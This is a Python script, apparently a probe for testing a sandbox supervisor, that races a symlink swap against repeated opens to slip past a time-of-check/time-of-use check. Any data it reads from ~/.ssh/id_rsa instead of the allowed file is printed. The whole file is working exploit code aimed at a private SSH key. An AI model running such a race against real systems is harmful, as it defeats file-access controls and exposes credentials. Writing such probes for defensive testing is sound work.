"""Threat: the symlink flavour of the time-of-check/time-of-use race.  One
thread keeps replacing the workspace symlink "swing" (atomically, by
rename) so that it points alternately at an allowed file and at
~/.ssh/id_rsa; another loops open("swing").  The supervisor resolves the
link when it decides, the kernel resolves it again when it opens.

Usage: race_symlink_swap.py ALLOWED_FILE [SECONDS]   (cwd: the workspace)
"""

import contextlib
import os
import sys
import threading
import time

DONE = 42
MAX_ITERATIONS = 200_000

allowed = os.path.abspath(sys.argv[1])
key = os.path.expanduser("~/.ssh/id_rsa")
seconds = float(sys.argv[2]) if len(sys.argv) > 2 else 8.0
with open(allowed, "rb") as f:
    expected = f.read()

os.symlink(allowed, "swing")
stop = threading.Event()
errors: list[str] = []


def flip():
    targets = (key, allowed)
    i = 0
    while not stop.is_set():
        try:
            os.symlink(targets[i % 2], "swing.new")
            os.replace("swing.new", "swing")
        except OSError as e:
            errors.append(e.strerror or str(e))
            with contextlib.suppress(OSError):
                os.unlink("swing.new")
            if len(errors) > 100:
                return
        i += 1


flipper = threading.Thread(target=flip, daemon=True)
flipper.start()
opened = refused = leaked = iterations = 0
deadline = time.monotonic() + seconds
while time.monotonic() < deadline and iterations < MAX_ITERATIONS and leaked < 3:
    iterations += 1
    try:
        fd = os.open("swing", os.O_RDONLY | os.O_CLOEXEC)
    except OSError:
        refused += 1
        continue
    try:
        data = os.read(fd, 4096)
    finally:
        os.close(fd)
    opened += 1
    if data != expected:
        leaked += 1
        print("leak:", data.decode(errors="replace"), flush=True)
stop.set()
flipper.join()
print(f"iterations: {iterations}")
print(f"opened: {opened}")
print(f"refused: {refused}")
print(f"leaked: {leaked}")
print(f"flip-errors: {len(errors)} {sorted(set(errors))}")
sys.exit(DONE)
